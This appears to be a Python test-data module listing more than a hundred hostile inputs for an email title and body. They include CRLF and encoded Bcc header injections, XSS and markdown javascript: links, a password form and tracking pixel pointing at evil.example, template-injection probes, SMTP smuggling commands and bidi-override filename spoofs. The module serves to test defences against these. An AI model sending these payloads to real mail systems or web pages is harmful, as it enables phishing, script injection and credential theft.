"""Titles and texts that mean to be headers, parts or documents of a mail, and all hostile ones."""

from __future__ import annotations

import re

from hostile_texts import HOSTILE

_BREAKS = ("\n", "\r\n", "\r", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "\0")
_HEADERS = ("Bcc: victim@evil.example", "Subject: other", "Content-Type: text/html", "\t folded")
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "![x](https://evil.example/pixel.gif)",
    "<https://evil.example/><b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<bdo dir=rtl>moc.live</bdo>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<plaintext>",
    "<textarea>",
    "<form action=//evil.example><input name=password>",
)
_TEMPLATES = (
    "$title",
    "${title}",
    "$$",
    "{0.__class__}",
    "{{7*7}}",
    "%(state)s",
    "%s%n",
    "{% x %}",
)
_MAIL = (
    ".",
    ".\n",
    "\n.\n",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA",
    "..\n.x",
    "text\n.\nQUIT",
    "From the start of a line\nFrom another",
    "--=_boundary",
    "\n\nContent-Type: text/html\n\n<b>",
    "=?utf-8?q?=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "=0D=0ABcc: victim@evil.example",
    "%0d%0aBcc: victim@evil.example",
    "a" * 2000,
    "ä" * 2000,
    "😀" * 600,
    "=" * 1500,
    "\t" * 1500 + "x",
    "a " * 1500,
)
_TURNS = (
    "\u202egnp.exe",
    "\u202dleft",
    "\u2067isolated",
    "\u2066" * 50,
    "\u200fmark\u200e",
    "\u202a\u202b\u202c nested",
    "שלום \u202e abc",
    "e\u0301" + "\u0301" * 500,
)
PAYLOADS: tuple[str, ...] = (
    *(f"a{break_}{header}" for break_ in _BREAKS for header in _HEADERS),
    *_MARKUP,
    *_TEMPLATES,
    *_MAIL,
    *_TURNS,
    *(one for one in HOSTILE if not re.search("[\ud800-\udfff]", one)),  # in no file of UTF-8
    "x" * 100_000,
    "<b>\n" * 25_000,
)
"""More than a hundred of them; two are of 100 kB."""
